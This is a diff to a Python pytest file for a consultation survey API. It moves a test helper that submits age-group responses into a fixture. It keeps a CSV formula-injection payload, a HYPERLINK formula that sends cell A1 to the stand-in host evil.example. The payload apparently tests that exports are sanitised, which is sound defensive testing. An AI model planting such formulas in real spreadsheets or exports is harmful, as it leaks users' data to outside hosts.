@@ -2,11 +2,10 @@
 
 from __future__ import annotations
 
-import asyncio
 import csv
 import io
 import json
-from collections.abc import Callable
+from collections.abc import Awaitable, Callable
 from typing import Any
 from uuid import UUID
 
@@ -18,48 +17,18 @@ from localrights.csvsafe import FORMULA_STARTS
 from localrights.db import asyncpg_dsn
 from localrights_consultation.config import Settings
 
+INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"click")'  # the conftest's first senior
+
 API = "/api/v1/consultations"
 Answers = Callable[..., dict[str, Any]]
-INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"click")'
-
-
-async def answer_many(
-    client: httpx.AsyncClient,
-    consultation_id: str,
-    resident: Callable[..., dict[str, str]],
-    answers: Answers,
-    groups: dict[str, int],
-) -> None:
-    """Submit ``size`` responses per age group, each from its own device."""
-    jobs = []
-    for group, size in groups.items():
-        for n in range(size):
-            extra = {"comment": INJECTION} if group == "senior" and n == 0 else {}
-            body = {"answers": answers(age=group, safety=1 + n % 5, **extra)}
-            jobs.append(
-                client.post(
-                    f"{API}/{consultation_id}/responses",
-                    json=body,
-                    headers=resident(f"{group}-{n}"),
-                )
-            )
-    for chunk in range(0, len(jobs), 16):
-        sent = await asyncio.gather(*jobs[chunk : chunk + 16])
-        assert {r.status_code for r in sent} == {201}, [
-            r.text for r in sent if r.status_code != 201
-        ]
+GroupAnswers = Callable[[str, dict[str, int]], Awaitable[None]]
 
 
 @pytest.fixture
-async def surveyed(
-    client: httpx.AsyncClient,
-    make_consultation: Any,
-    answers: Answers,
-    resident: Callable[..., dict[str, str]],
-) -> dict[str, Any]:
+async def surveyed(make_consultation: Any, answer_groups: GroupAnswers) -> dict[str, Any]:
     """An open consultation with 61 youth, 60 adult and 4 senior respondents."""
     c = await make_consultation()
-    await answer_many(client, c["id"], resident, answers, {"youth": 61, "adult": 60, "senior": 4})
+    await answer_groups(c["id"], {"youth": 61, "adult": 60, "senior": 4})
     return c
 
 
